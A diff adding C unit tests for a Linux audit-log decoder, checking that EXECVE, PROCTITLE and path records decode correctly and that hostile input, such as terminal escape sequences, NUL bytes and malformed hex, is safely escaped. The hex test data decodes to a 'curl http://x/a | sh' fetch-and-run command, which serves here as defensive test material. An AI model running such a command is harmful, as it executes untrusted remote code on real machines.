@@ -934,6 +934,106 @@ test_spoof(void **state)
 }
 
 /*
+ * The records of one audit event decoded: EXECVE's arguments (quoted,
+ * hex, in parts, no more than argc) into one command line, PROCTITLE
+ * from hex, the key, the working folder and the PATH names; the message
+ * starts with the command line, escaped, before the records.
+ */
+static void
+test_audit_decode(void **state)
+{
+	static const char in[] =
+	    "type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e "
+	    "syscall=59 success=yes pid=4242 uid=0 auid=1000 comm=\"sh\" "
+	    "exe=2F746D702F6120622F7368 key=65786563016E6574\n"
+	    "type=EXECVE msg=audit(1700000000.000:7): argc=4 a0=\"sh\" "
+	    "a1=\"-c\" a2_len=20 a2[0]=6375726C20687474703A2F2F "
+	    "a2[1]=782F61207C207368 a3=1B5B324A0A\n"
+	    "type=EXECVE msg=audit(1700000000.000:7): a4=\"beyond argc\"\n"
+	    "type=CWD msg=audit(1700000000.000:7): cwd=2F746D702F78207920\n"
+	    "type=PATH msg=audit(1700000000.000:7): item=0 name=\"/bin/sh\" "
+	    "nametype=NORMAL\n"
+	    "type=PATH msg=audit(1700000000.000:7): item=1 name=(null) "
+	    "nametype=NORMAL\n"
+	    "type=PATH msg=audit(1700000000.000:7): item=2 "
+	    "name=2F746D702F612062 nametype=CREATE\n"
+	    "type=PROCTITLE msg=audit(1700000000.000:7): "
+	    "proctitle=7368002D6300\n"
+	    "type=EOE msg=audit(1700000000.000:7):\n"
+	    /* no EXECVE: the title is the command line; key="(null)" */
+	    "type=SYSCALL msg=audit(1700000001.000:8): pid=5 key=\"(null)\"\n"
+	    "type=PROCTITLE msg=audit(1700000001.000:8): "
+	    "proctitle=2F62696E2F7A7C00782079\n";
+	struct irt_buf out = IRT_BUF_INIT;
+	struct warns w = { 0, "", "" };
+	const char *second;
+
+	(void)state;
+	assert_int_equal(
+	    build(&out, &w, "audit", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
+	assert_int_equal(w.n, 0);
+	/* the arguments joined, a split one in one piece, a4 beyond argc
+	 * left out; the escape and newline kept (JSON escapes them) */
+	assert_non_null(strstr(out.ptr,
+	    "\"cmdline\":\"sh -c curl http://x/a | sh \\u001b[2J\\n\""));
+	assert_non_null(strstr(out.ptr, "\"proctitle\":\"sh -c\""));
+	assert_non_null(strstr(out.ptr, "\"key\":\"exec,net\""));
+	assert_non_null(strstr(out.ptr, "\"cwd\":\"/tmp/x y \""));
+	assert_non_null(strstr(out.ptr, "\"names\":\"/bin/sh\\n\\n/tmp/a b\""));
+	assert_non_null(strstr(out.ptr, "\"exe\":\"/tmp/a b/sh\""));
+	assert_non_null(strstr(out.ptr, "\"comm\":\"sh\""));
+	/* the message: the command line terminal-safe, its '|' escaped,
+	 * then the records as they were */
+	assert_non_null(strstr(out.ptr,
+	    "\"message\":\"sh -c curl http://x/a \\\\x7c sh \\\\e[2J\\\\n | "
+	    "type=SYSCALL msg=audit(1700000000.000:7): "));
+	/* the second event: its title in the message, no key, no
+	 * command line of EXECVE */
+	second = strstr(out.ptr, "\"serial\":\"8\"");
+	assert_non_null(second);
+	assert_non_null(
+	    strstr(out.ptr, "\"message\":\"/bin/z\\\\x7c x y | type=SYSCALL "));
+	assert_non_null(strstr(second, "\"proctitle\":\"/bin/z| x y\"}}"));
+	assert_null(strstr(second, "\"key\""));
+	assert_null(strstr(second, "\"cmdline\""));
+	irt_buf_release(&out);
+}
+
+/* Hostile EXECVE and PROCTITLE records: no a0, an argc beyond any
+ * number, odd-length and non-hex values kept as they are, NUL bytes and
+ * escapes decoded into the field and escaped in the message. */
+static void
+test_audit_hostile(void **state)
+{
+	static const char in[] =
+	    "type=EXECVE msg=audit(1700000000.000:1): "
+	    "argc=99999999999999999999 a1=6869 a2=ZZ a3=787 a4=610062 "
+	    "a5[0=41 a99999999999=x a6=\"\x1b]0;t\x07\" a7[1]=6A a7[0]=69\n"
+	    "type=PROCTITLE msg=audit(1700000000.000:1): proctitle=7368002\n"
+	    "type=EXECVE msg=audit(1700000001.000:2): argc=1 a0=\"\" a1=\"x\"\n"
+	    "type=EXECVE msg=audit(1700000002.000:3): argc=2 a0_len=9 a1=\n";
+	struct irt_buf out = IRT_BUF_INIT;
+	struct warns w = { 0, "", "" };
+
+	(void)state;
+	assert_int_equal(
+	    build(&out, &w, "audit", in, sizeof in - 1, IRT_TL_JSONL, 0), 0);
+	assert_int_equal(w.n, 0);
+	assert_non_null(strstr(out.ptr,
+	    "\"cmdline\":\"hi ZZ 787 a\\u0000b \\u001b]0;t\\u0007 ji\","
+	    "\"proctitle\":\"7368002\"}"));
+	assert_non_null(strstr(out.ptr,
+	    "\"message\":\"hi ZZ 787 a\\\\x00b \\\\e]0;t\\\\x07 ji | "
+	    "type=EXECVE "));
+	/* argc=1: only an empty a0, no command line */
+	assert_null(strstr(out.ptr, "\"cmdline\":\"x\""));
+	assert_null(strstr(out.ptr, "\"cmdline\":\" x\""));
+	assert_non_null(strstr(
+	    out.ptr, "\"message\":\"type=EXECVE msg=audit(1700000001.000:2)"));
+	irt_buf_release(&out);
+}
+
+/*
  * rsyslog's "message repeated N times: [ MSG]" has the count, and the
  * fields of MSG; a line that only looks like one (no count, no closing
  * bracket) is an ordinary line.
@@ -1615,6 +1715,8 @@ main(void)
 		cmocka_unit_test(test_bodyfile_range),
 		cmocka_unit_test(test_tmp_max),
 		cmocka_unit_test(test_spoof),
+		cmocka_unit_test(test_audit_decode),
+		cmocka_unit_test(test_audit_hostile),
 		cmocka_unit_test(test_syslog_repeated),
 		cmocka_unit_test(test_syslog_forms),
 		cmocka_unit_test(test_sudo_cron),
